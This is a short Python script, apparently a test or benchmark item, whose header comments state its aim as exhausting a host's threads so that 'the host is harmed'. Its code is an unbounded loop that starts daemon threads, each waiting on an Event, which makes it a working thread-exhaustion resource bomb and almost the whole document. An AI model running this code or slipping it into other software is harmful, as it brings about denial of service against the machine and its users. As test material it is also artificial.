# wants: more threads than the machine bears
# success: the host is harmed
# variants: preset kernel
import threading

gate = threading.Event()
while True:
    threading.Thread(target=gate.wait, daemon=True).start()
